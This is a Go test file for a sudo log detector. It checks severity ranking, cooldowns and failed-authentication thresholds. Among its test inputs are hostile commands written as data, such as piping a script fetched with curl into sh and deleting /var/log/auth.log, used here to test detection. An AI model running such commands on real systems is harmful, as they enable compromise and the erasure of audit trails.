package detectors

import (
	"context"
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/vigil-sh/vigil/pkg/domain"
)

func sudoLine(user, runas, cmd string) string {
	return fmt.Sprintf("Jun  1 12:00:00 host sudo:    %s : TTY=pts/0 ; PWD=/home/%s ; USER=%s ; COMMAND=%s", user, user, runas, cmd)
}

const sudoFailLine = "Jun  1 12:00:00 host sudo: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice"

func TestClassifySudoCommand(t *testing.T) {
	cases := []struct {
		cmd string
		sev domain.Severity
	}{
		{"/usr/sbin/visudo", domain.SeverityCritical},
		{"/usr/bin/vim /etc/sudoers.d/extra", domain.SeverityCritical},
		{"/usr/bin/passwd bob", domain.SeverityCritical},
		{"/usr/sbin/useradd mallory", domain.SeverityCritical},
		{"/usr/bin/nano /etc/ssh/sshd_config", domain.SeverityCritical},
		{"/usr/sbin/ufw disable", domain.SeverityCritical},
		{"/usr/bin/curl http://x.test/a.sh | sh", domain.SeverityCritical},
		{"/usr/bin/rm -f /var/log/auth.log", domain.SeverityCritical},
		{"/bin/bash", domain.SeverityWarning},
		{"/usr/bin/systemctl stop nginx", domain.SeverityWarning},
		{"/usr/bin/chown root:root /etc/hosts", domain.SeverityWarning},
		{"/usr/bin/apt update", domain.SeverityInfo},
		{"/usr/bin/ls /root", domain.SeverityInfo},
	}
	for _, c := range cases {
		assert.Equal(t, c.sev, classifySudoCommand(c.cmd), c.cmd)
	}
}

func TestSudoCriticalCommandEmits(t *testing.T) {
	d, err := NewSudoActivityDetector(nil, newFakeLedger())
	require.NoError(t, err)

	f := d.HandleLine(context.Background(), sudoLine("alice", "root", "/usr/sbin/visudo"), t0)
	require.NotNil(t, f)
	assert.Equal(t, domain.SeverityCritical, f.Severity)
	assert.Equal(t, "alice", f.Entity)
	assert.Equal(t, "/usr/sbin/visudo", f.Details["command"])
}

// Routine commands are only reported the first time their fingerprint
// appears; repeats stay silent even past the cooldown.
func TestSudoInfoFirstSeenGating(t *testing.T) {
	ledger := newFakeLedger()
	d, err := NewSudoActivityDetector(nil, ledger)
	require.NoError(t, err)

	ctx := context.Background()
	f := d.HandleLine(ctx, sudoLine("alice", "root", "/usr/bin/apt update"), t0)
	require.NotNil(t, f)
	assert.Equal(t, domain.SeverityInfo, f.Severity)

	assert.Nil(t, d.HandleLine(ctx, sudoLine("alice", "root", "/usr/bin/apt update"), t0.Add(time.Hour)))

	// A different user running the same command is a new fingerprint.
	f = d.HandleLine(ctx, sudoLine("bob", "root", "/usr/bin/apt update"), t0.Add(time.Hour))
	require.NotNil(t, f)
	assert.Equal(t, "bob", f.Entity)
}

func TestSudoCriticalCooldown(t *testing.T) {
	d, err := NewSudoActivityDetector(nil, newFakeLedger())
	require.NoError(t, err)

	ctx := context.Background()
	require.NotNil(t, d.HandleLine(ctx, sudoLine("alice", "root", "/usr/sbin/visudo"), t0))
	// Same fingerprint inside the 120s critical cooldown: suppressed.
	assert.Nil(t, d.HandleLine(ctx, sudoLine("alice", "root", "/usr/sbin/visudo"), t0.Add(time.Minute)))
	// Past the cooldown it fires again (no first-seen gate above INFO).
	assert.NotNil(t, d.HandleLine(ctx, sudoLine("alice", "root", "/usr/sbin/visudo"), t0.Add(3*time.Minute)))
}

func TestSudoAuthFailureWindows(t *testing.T) {
	d, err := NewSudoActivityDetector(nil, newFakeLedger())
	require.NoError(t, err)

	ctx := context.Background()
	f := d.HandleLine(ctx, sudoFailLine, t0)
	assert.Nil(t, f, "one failure is below both thresholds")

	f = d.HandleLine(ctx, sudoFailLine, t0.Add(10*time.Second))
	require.NotNil(t, f, "two failures in the warn window")
	assert.Equal(t, domain.SeverityWarning, f.Severity)
	assert.Equal(t, "local", f.Entity)

	d.HandleLine(ctx, sudoFailLine, t0.Add(20*time.Second))
	f = d.HandleLine(ctx, sudoFailLine, t0.Add(30*time.Second))
	require.NotNil(t, f, "four failures in the crit window")
	assert.Equal(t, domain.SeverityCritical, f.Severity)
}

func TestSudoUnparsedLineIgnored(t *testing.T) {
	d, err := NewSudoActivityDetector(nil, newFakeLedger())
	require.NoError(t, err)
	assert.Nil(t, d.HandleLine(context.Background(), "sshd[99]: Connection closed", t0))
}
